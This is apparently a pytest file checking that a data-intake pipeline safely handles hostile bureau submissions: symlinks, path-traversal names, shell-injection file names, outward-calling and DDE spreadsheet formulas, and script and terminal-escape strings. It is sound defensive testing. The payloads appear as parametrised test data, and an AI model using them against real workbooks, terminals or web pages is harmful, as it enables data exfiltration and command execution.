"""What a hostile bureau may put into the drop folder or a workbook, and what becomes of it."""

from __future__ import annotations

import io
from pathlib import Path

import odfdo
import openpyxl
import pytest
from rich.console import Console

from pipelines.console.terminal import show_slip
from pipelines.contracts.machinery.contract import Words
from pipelines.intake.inbox import SETTLED_S, take_in
from pipelines.intake.slips.documents import as_html
from pipelines.intake.slips.marked_copy import write_marked_copy
from pipelines.intake.slips.slip import Line, Slip
from pipelines.ledger.errors import RegisterError
from pipelines.ledger.register import add_arrival
from pipelines.settings import Settings

LATER = 10**11  # seconds: long after any file of today was written
CALLS_OUT = [
    '=WEBSERVICE("http://203.0.113.9/"&A1)',
    '=HYPERLINK("http://203.0.113.9/","ok")',
    "=cmd|'/C calc'!A0",
    '=IMPORTDATA("http://203.0.113.9/")',
    '=_xlfn.WEBSERVICE("http://203.0.113.9/")',
]


def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.csv"
    path.write_text("password\nhunter2\n", encoding="utf-8")
    return path


def dropped(settings: Settings, name: str = "EPB.csv", place: str = "sectors/2024") -> Path:
    path = settings.inbox_dir / place / name
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def everything_in(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file())


def test_a_link_in_the_drop_folder_is_named_and_its_target_is_never_read(
    settings: Settings, tmp_path: Path
) -> None:
    link = dropped(settings)
    link.symlink_to(secret(tmp_path))
    taken = take_in(settings, now=LATER)
    assert taken.arrivals == []
    assert [problem.en for problem in taken.problems] == [
        "sectors/2024/EPB.csv in the drop folder is a link to another file and is not followed; "
        "put the file itself there."
    ]
    assert b"hunter2" not in everything_in(settings.raw_dir)


def test_a_link_in_place_of_a_reason_is_never_read(settings: Settings, tmp_path: Path) -> None:
    dropped(settings).write_text("部門代碼\nENERGY\n", encoding="utf-8")
    dropped(settings, "EPB.reason.txt").symlink_to(secret(tmp_path))
    take_in(settings, now=LATER)
    assert b"hunter2" not in everything_in(settings.raw_dir)


def test_a_link_to_a_folder_is_not_entered(settings: Settings, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "EPB.csv").write_text("password\nhunter2\n", encoding="utf-8")
    (settings.inbox_dir / "sectors").mkdir(parents=True)
    (settings.inbox_dir / "sectors" / "2024").symlink_to(outside)
    assert take_in(settings, now=LATER).arrivals == []
    assert (outside / "EPB.csv").exists()


def test_a_link_that_is_submitted_is_refused(settings: Settings, tmp_path: Path) -> None:
    link = tmp_path / "report.csv"
    link.symlink_to(secret(tmp_path))
    with pytest.raises(
        RegisterError, match=r"^report\.csv is a link to another file; submit the file itself\.$"
    ):
        add_arrival(link, settings.raw_dir, dataset="sectors", bureau="EPB", period="2024")


@pytest.mark.parametrize(
    "part", ["..", "../../etc", "a/b", "a\\b", "/etc", "", ".", "a\x00b", "a\n", "Ｅ", "-rf"]
)
@pytest.mark.parametrize("field", ["dataset", "bureau", "period"])
def test_no_name_leads_out_of_the_raw_folder(
    settings: Settings, tmp_path: Path, field: str, part: str
) -> None:
    place = {"dataset": "sectors", "bureau": "EPB", "period": "2024"} | {field: part}
    with pytest.raises(RegisterError):
        add_arrival(secret(tmp_path), settings.raw_dir, **place)
    assert not settings.raw_dir.exists() or everything_in(settings.raw_dir) == b""


@pytest.mark.parametrize("name", ["..csv", "-rf.csv", "a b;rm.csv", "$(id).csv", "<b>.csv", "=1+1.csv"])
def test_a_name_in_the_drop_folder_that_is_no_code_is_named_and_left(settings: Settings, name: str) -> None:
    path = dropped(settings, name)
    path.write_text("部門代碼\nENERGY\n", encoding="utf-8")
    taken = take_in(settings, now=LATER)
    assert taken.arrivals == []
    assert path.exists()


def test_a_file_dated_in_the_future_is_named_and_not_forgotten(settings: Settings) -> None:
    path = dropped(settings)
    path.write_text("部門代碼\nENERGY\n", encoding="utf-8")
    early = path.stat().st_mtime - 3600
    taken = take_in(settings, now=early)
    assert taken.arrivals == []
    assert [problem.en for problem in taken.problems] == [
        "sectors/2024/EPB.csv in the drop folder is dated in the future, so it cannot be told whether it is still "
        "being written; put the clock right, or save the file anew."
    ]
    assert take_in(settings, now=early + 3600 + SETTLED_S).arrivals != []


def line(cell: str = "A1", found: str = "x", sheet: str = "S") -> Line:
    words = Words("錯", "wrong")
    return Line(
        severity="fault", sheet=sheet, cell=cell, found=found, rule="r", message=words, expected=words
    )


@pytest.mark.parametrize("formula", CALLS_OUT)
def test_a_formula_that_calls_out_is_text_in_the_marked_copy(tmp_path: Path, formula: str) -> None:
    book = openpyxl.Workbook()
    book.active.title = "S"
    book.active["A1"], book.active["B1"], book.active["C1"] = 1, formula, "=A1*2"
    book.save(tmp_path / "own.xlsx")
    write_marked_copy(tmp_path / "own.xlsx", [line()], tmp_path / "marked.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "marked.xlsx")["S"]
    assert (sheet["B1"].data_type, sheet["B1"].value) == ("s", formula)
    assert (sheet["C1"].data_type, sheet["C1"].value) == ("f", "=A1*2")


def test_a_formula_that_calls_out_is_gone_from_the_marked_copy_of_an_ods(tmp_path: Path) -> None:
    document = odfdo.Document("spreadsheet")
    document.body.clear()
    table = odfdo.Table("S")
    table.set_value("A1", 1)
    table.set_cell("B1", odfdo.Cell(2, formula='of:=WEBSERVICE("http://203.0.113.9/")'))
    table.set_cell("C1", odfdo.Cell(2, formula="of:=[.A1]*2"))
    document.body.append(table)
    document.save(tmp_path / "own.ods")
    write_marked_copy(tmp_path / "own.ods", [line()], tmp_path / "marked.ods")
    marked = odfdo.Document(tmp_path / "marked.ods").body.get_table(name="S")
    assert (marked.get_cell("B1").formula, marked.get_cell("B1").value) == (None, 2)
    assert marked.get_cell("C1").formula == "of:=[.A1]*2"


HOSTILE = "<script>alert(1)</script>[link=http://203.0.113.9]x[/link]\x1b]0;owned\x07\x1b[2J"


def hostile_slip() -> Slip:
    words = Words("標題", "Title")
    return Slip(
        file_name=HOSTILE, dataset="sectors", title=words, state="returned", rows_accepted=0, rows_rejected=1,
        faults=(line(found=HOSTILE, sheet=HOSTILE),), notices=(), refusal=None,
    )  # fmt: skip


def test_what_a_bureau_wrote_is_neither_markup_nor_a_command_to_the_terminal() -> None:
    screen = io.StringIO()
    show_slip(Console(file=screen, force_terminal=True, width=400, color_system=None), hostile_slip(), "en")
    shown = screen.getvalue()
    assert "\x1b]" not in shown
    assert "\x1b[2J" not in shown
    assert "[link=http://203.0.113.9]" in shown


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_what_a_bureau_wrote_is_text_on_the_page(lang: str) -> None:
    page = as_html(hostile_slip(), lang, Words(HOSTILE, HOSTILE))
    assert "<script" not in page
    assert "&lt;script&gt;" in page
